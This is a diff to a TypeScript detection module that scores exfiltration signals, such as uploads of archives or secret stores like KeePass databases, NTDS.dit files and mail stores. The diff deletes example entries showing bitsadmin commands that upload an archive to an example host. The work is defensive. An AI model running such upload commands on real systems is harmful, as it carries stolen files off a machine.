@@ -13,10 +13,6 @@ export const directionSignals: readonly Signal[] = [
       const [end] = ends;
       return end ? `files leave this machine for ${placeText(end)}` : 'files leave this machine';
     },
-    examples: [
-      { process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in C:\\d\\a.7z' },
-      { process_name: 'bitsadmin.exe', process: 'bitsadmin /create /upload job' },
-    ],
   },
   {
     id: 'upload-archive', family: 'direction', impact: 80, confidence: 35, techniques: ['T1048', 'T1560'],
@@ -24,6 +20,5 @@ export const directionSignals: readonly Signal[] = [
       const archive = transfers.find(({ direction, source }) => isUpload(direction) && source !== undefined && !isUrl(source) && ['7z', 'zip', 'rar', 'gz', 'tar', 'cab', 'dmp', 'dit', 'pst', 'ost', 'kdbx'].includes(source.extension ?? ''));
       return archive?.source && `${placeText(archive.source)} is an archive or a store of secrets or mail`;
     },
-    examples: [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job /upload https://files.example.net/in/a.7z C:\\d\\a.7z' }],
   },
 ];
